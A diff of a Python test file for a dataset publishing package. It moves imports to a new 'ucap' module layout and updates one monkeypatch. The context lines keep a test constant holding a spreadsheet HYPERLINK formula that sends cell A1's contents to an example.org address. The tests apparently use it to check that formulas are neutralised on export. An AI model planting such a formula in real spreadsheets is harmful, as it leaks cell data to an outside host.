@@ -17,19 +17,18 @@ import pandas as pd
 import pyarrow as pa
 import pytest
 
-from publishing import export_xlsx
-from publishing.assemble import assemble_dataset
-from publishing.errors import OutputError
-from publishing.export import ExportFormat, export_version
-from publishing.export_csv import neutralise_formulas
-from publishing.export_xlsx import MAX_CHARACTERS, shorten_cell
-from publishing.versions import publish_dataset
-from schemas.arrow import render_schema
-from schemas.records import TABLES
 from tests.commands import invoke_ucap
 from tests.example_outputs import ONE, READINGS, file_tree
 from tests.example_readings import make_correction, make_reading
 from tests.old_versions import rewrite_version
+from ucap.publishing.assemble import assemble_dataset
+from ucap.publishing.errors import OutputError
+from ucap.publishing.exports.csv_folder import neutralise_formulas
+from ucap.publishing.exports.export import ExportFormat, export_version
+from ucap.publishing.exports.workbook import MAX_CHARACTERS, shorten_cell
+from ucap.publishing.versions import publish_dataset
+from ucap.schemas.arrow import render_schema
+from ucap.schemas.records import TABLES
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
 CONTROLS = "bell\x07 escape\x1b return\r NUL\x00 nobody\ufffe _x000D_ end"
@@ -275,7 +274,7 @@ def test_what_just_fits_is_not_cut(length: int) -> None:
 def test_more_rows_than_a_sheet_holds_go_on_in_another(
     published: tuple[Path, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(export_xlsx, "MAX_ROWS", 3)
+    monkeypatch.setattr("ucap.publishing.exports.workbook.MAX_ROWS", 3)
     done = export_version(*published, "xlsx", tmp_path / "u.xlsx")
     workbook = openpyxl.load_workbook(tmp_path / "u.xlsx")
     assert [name for name in workbook.sheetnames if name.startswith("cities")] == ["cities", "cities (2)"]
